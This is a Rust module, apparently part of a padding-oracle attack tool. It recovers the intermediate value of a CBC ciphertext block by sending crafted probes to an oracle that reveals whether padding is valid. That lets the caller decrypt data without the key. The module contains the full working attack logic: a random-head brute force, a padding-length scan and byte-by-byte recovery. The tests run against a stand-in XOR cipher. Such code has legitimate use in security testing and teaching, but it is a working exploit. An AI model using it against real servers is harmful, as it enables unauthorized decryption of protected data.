// Recovery of a single block's intermediate value through a padding oracle.
//
// CBC decryption computes
//
//                  P_i = D(C_i) ⊕ C_{i-1}.
//
// Call I = D(C_i) the intermediate value. If we submit X|C_i to the oracle,
// for an X we control, the server computes P' = I ⊕ X and tells us whether P'
// ends in valid padding. Knowing I is as good as knowing P_i, since
// P_i = I ⊕ C_{i-1} and C_{i-1} is public.
//
// The attack runs in three phases:
//
//   1. Pick a random X and count upwards from it (X ⊕ counter) until the
//      oracle accepts. P' now ends in *some* valid padding of length l.
//
//   2. Find l. Bump X one byte at a time from the front. Bytes outside the
//      padding don't matter, so the first bump that makes the oracle reject
//      sits at the start of the padding: a rejection at index k means
//      l = block_size - k.
//
//   3. The last l bytes of P' all equal l, so the last l bytes of I are
//      X[k] ⊕ l. To learn one more byte, fix the known tail of X so that P'
//      ends in l+1 copies of l+1 and brute force the head of X until the
//      oracle accepts. The head's last byte then gives I[k] = X[k] ⊕ (l+1).
//      Repeat until l == block_size.
use tracing::{debug, trace, warn};

use crate::{
    bytes::{increment, random_bytes, tweak, xor_bytes},
    AttackConfig, AttackError, PaddingOracle, SearchStage,
};

// Fresh starts allowed when the padding length scan is inconclusive.
const PADDING_SCAN_ATTEMPTS: usize = 3;

pub struct BlockDecryptor<'a, O> {
    oracle: &'a O,
    config: &'a AttackConfig,
}

impl<'a, O: PaddingOracle> BlockDecryptor<'a, O> {
    pub fn new(oracle: &'a O, config: &'a AttackConfig) -> Result<Self, AttackError> {
        config.validate()?;
        Ok(Self { oracle, config })
    }

    /// Recover the intermediate value of `block`, i.e. its plaintext before
    /// it is XORed with the preceding ciphertext block.
    pub async fn intermediate_value(&self, block: &[u8]) -> Result<Vec<u8>, AttackError> {
        let block_size = self.config.block_size;
        if block.len() != block_size {
            return Err(AttackError::MalformedInput(format!(
                "expected a {} byte block, got {} bytes",
                block_size,
                block.len()
            )));
        }

        let (forced_iv, mut padding_len) = self.find_padding(block).await?;
        debug!(padding_len, "found valid padding");

        let mut known: Vec<u8> = forced_iv[block_size - padding_len..]
            .iter()
            .map(|b| b ^ padding_len as u8)
            .collect();

        while padding_len < block_size {
            let next_padding = (padding_len + 1) as u8;
            let position = block_size - padding_len - 1;
            let tail: Vec<u8> = known.iter().map(|b| b ^ next_padding).collect();
            let (head, _) = self
                .brute_force_head(
                    position + 1,
                    &tail,
                    block,
                    SearchStage::Byte { position },
                )
                .await?;
            known.insert(0, head[position] ^ next_padding);
            padding_len += 1;
            trace!(position, byte = known[0], "recovered intermediate byte");
        }

        Ok(known)
    }

    async fn find_padding(&self, block: &[u8]) -> Result<(Vec<u8>, usize), AttackError> {
        let mut queries = 0;
        for _ in 0..PADDING_SCAN_ATTEMPTS {
            let (forced_iv, search_queries) = self
                .brute_force_head(block.len(), &[], block, SearchStage::InitialPadding)
                .await?;
            queries += search_queries;
            if let Some(padding_len) = self.padding_len(&forced_iv, block).await? {
                return Ok((forced_iv, padding_len));
            }
            // An inconclusive scan bumped every byte.
            queries += block.len() as u64;
            debug!("padding length scan was inconclusive, starting over");
        }
        Err(AttackError::ExhaustedSearch {
            stage: SearchStage::PaddingLength,
            attempts: queries,
        })
    }

    /// Count upwards from a random `len` byte head until `head|tail|block`
    /// has valid padding. Returns the head and the number of queries made.
    async fn brute_force_head(
        &self,
        len: usize,
        tail: &[u8],
        block: &[u8],
        stage: SearchStage,
    ) -> Result<(Vec<u8>, u64), AttackError> {
        let random = random_bytes(len);
        let mut counter = vec![0u8; len];
        for attempt in 1..=self.config.max_attempts {
            let head = xor_bytes(&random, &counter).map_err(AttackError::MalformedInput)?;
            let probe = [head.as_slice(), tail, block].concat();
            if self.probe(&probe).await? {
                return Ok((head, attempt));
            }
            counter = increment(&counter);
        }
        Err(AttackError::ExhaustedSearch {
            stage,
            attempts: self.config.max_attempts,
        })
    }

    /// Given a forced IV that yields valid padding for `block`, find how many
    /// trailing bytes that padding covers.
    ///
    /// Returns `None` if no single-byte bump ever invalidated the padding.
    /// That happens when bumping the last byte turns a `\x01` padding into a
    /// `\x02\x02` one, or when the oracle isn't a real padding oracle.
    async fn padding_len(
        &self,
        forced_iv: &[u8],
        block: &[u8],
    ) -> Result<Option<usize>, AttackError> {
        let mut tweaked = forced_iv.to_vec();
        for index in 0..forced_iv.len() {
            tweaked = tweak(&tweaked, index);
            let probe = [tweaked.as_slice(), block].concat();
            if !self.probe(&probe).await? {
                return Ok(Some(forced_iv.len() - index));
            }
        }
        Ok(None)
    }

    async fn probe(&self, probe: &[u8]) -> Result<bool, AttackError> {
        match self.oracle.test(probe).await {
            Ok(valid) => Ok(valid),
            Err(e) if e.is_transient() => {
                warn!(error = %e, "oracle misbehaved, treating probe as invalid padding");
                Ok(false)
            }
            Err(e) => Err(e.into()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use std::sync::atomic::{AtomicU64, Ordering};

    use reqwest::StatusCode;
    use rstest::rstest;

    use crate::{aes_cbc::pkcs7_padding_len, OracleError};

    // A stand-in cipher where D(C) = C ⊕ key. It is enough to exercise the
    // attack, which never looks inside the cipher.
    fn xor_cipher_oracle(key: Vec<u8>) -> impl Fn(&[u8]) -> Result<bool, OracleError> + Sync {
        move |probe: &[u8]| {
            let block_size = key.len();
            let (preceding, last) = probe[probe.len() - 2 * block_size..].split_at(block_size);
            let intermediate = xor_bytes(last, &key).unwrap();
            let plaintext = xor_bytes(&intermediate, preceding).unwrap();
            Ok(pkcs7_padding_len(&plaintext).is_some())
        }
    }

    fn padded_plaintext(block_size: usize, padding_len: usize) -> Vec<u8> {
        let mut plaintext = random_bytes(block_size - padding_len);
        plaintext.extend(std::iter::repeat(padding_len as u8).take(padding_len));
        plaintext
    }

    fn config_for(block_size: usize) -> AttackConfig {
        AttackConfig {
            block_size,
            ..Default::default()
        }
    }

    #[rstest]
    #[case(16, 1)]
    #[case(16, 2)]
    #[case(16, 7)]
    #[case(16, 16)]
    #[case(8, 3)]
    #[case(8, 8)]
    #[case(32, 1)]
    #[tokio::test]
    async fn intermediate_value_recovers_plaintext(
        #[case] block_size: usize,
        #[case] padding_len: usize,
    ) {
        let key = random_bytes(block_size);
        let preceding = random_bytes(block_size);
        let plaintext = padded_plaintext(block_size, padding_len);
        // E(P ⊕ C_{i-1}) under the stand-in cipher.
        let block = xor_bytes(&xor_bytes(&plaintext, &preceding).unwrap(), &key).unwrap();
        let oracle = xor_cipher_oracle(key);
        let config = config_for(block_size);

        let intermediate = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&block)
            .await
            .unwrap();

        assert_eq!(xor_bytes(&intermediate, &preceding).unwrap(), plaintext);
    }

    #[tokio::test]
    async fn intermediate_value_recovers_non_padding_block() {
        let key = random_bytes(16);
        let block = random_bytes(16);
        let oracle = xor_cipher_oracle(key.clone());
        let config = AttackConfig::default();

        let intermediate = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&block)
            .await
            .unwrap();

        assert_eq!(intermediate, xor_bytes(&block, &key).unwrap());
    }

    #[tokio::test]
    async fn always_false_oracle_exhausts_initial_search() {
        let oracle = |_: &[u8]| Ok::<_, OracleError>(false);
        let config = AttackConfig {
            max_attempts: 300,
            ..Default::default()
        };

        let result = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&[0u8; 16])
            .await;

        assert!(matches!(
            result,
            Err(AttackError::ExhaustedSearch {
                stage: SearchStage::InitialPadding,
                attempts: 300
            })
        ));
    }

    #[tokio::test]
    async fn always_true_oracle_exhausts_padding_length_scan() {
        let calls = AtomicU64::new(0);
        let oracle = |_: &[u8]| {
            calls.fetch_add(1, Ordering::Relaxed);
            Ok::<_, OracleError>(true)
        };
        let config = AttackConfig::default();

        let result = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&[0u8; 16])
            .await;

        // Each of the 3 rounds is one accepted search query plus 16 bumps.
        let queries = calls.load(Ordering::Relaxed);
        assert_eq!(queries, 3 * (1 + 16));
        assert!(matches!(
            result,
            Err(AttackError::ExhaustedSearch {
                stage: SearchStage::PaddingLength,
                attempts,
            }) if attempts == queries
        ));
    }

    #[rstest]
    #[case(0)]
    #[case(256)]
    #[case(300)]
    fn new_rejects_unusable_block_size_without_querying(#[case] block_size: usize) {
        let calls = AtomicU64::new(0);
        let oracle = |_: &[u8]| {
            calls.fetch_add(1, Ordering::Relaxed);
            Ok::<_, OracleError>(true)
        };
        let config = config_for(block_size);

        let result = BlockDecryptor::new(&oracle, &config);

        assert!(matches!(result, Err(AttackError::MalformedInput(_))));
        assert_eq!(calls.load(Ordering::Relaxed), 0);
    }

    #[tokio::test]
    async fn transient_oracle_errors_count_as_invalid_padding() {
        let calls = AtomicU64::new(0);
        let oracle = |_: &[u8]| {
            calls.fetch_add(1, Ordering::Relaxed);
            Err::<bool, _>(OracleError::UnexpectedStatus(StatusCode::BAD_GATEWAY))
        };
        let config = AttackConfig {
            max_attempts: 50,
            ..Default::default()
        };

        let result = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&[0u8; 16])
            .await;

        assert!(matches!(
            result,
            Err(AttackError::ExhaustedSearch {
                stage: SearchStage::InitialPadding,
                ..
            })
        ));
        assert_eq!(calls.load(Ordering::Relaxed), 50);
    }

    #[tokio::test]
    async fn fatal_oracle_errors_abort_the_search() {
        let calls = AtomicU64::new(0);
        let oracle = |probe: &[u8]| {
            calls.fetch_add(1, Ordering::Relaxed);
            Err::<bool, _>(OracleError::MalformedProbe {
                len: probe.len(),
                block_size: 16,
            })
        };
        let config = AttackConfig::default();

        let result = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&[0u8; 16])
            .await;

        assert!(matches!(
            result,
            Err(AttackError::Oracle(OracleError::MalformedProbe { len: 32, .. }))
        ));
        assert_eq!(calls.load(Ordering::Relaxed), 1);
    }

    #[tokio::test]
    async fn intermediate_value_rejects_wrong_block_length() {
        let oracle = xor_cipher_oracle(random_bytes(16));
        let config = AttackConfig::default();

        let result = BlockDecryptor::new(&oracle, &config)
            .unwrap()
            .intermediate_value(&[0u8; 15])
            .await;

        assert!(matches!(result, Err(AttackError::MalformedInput(_))));
    }
}
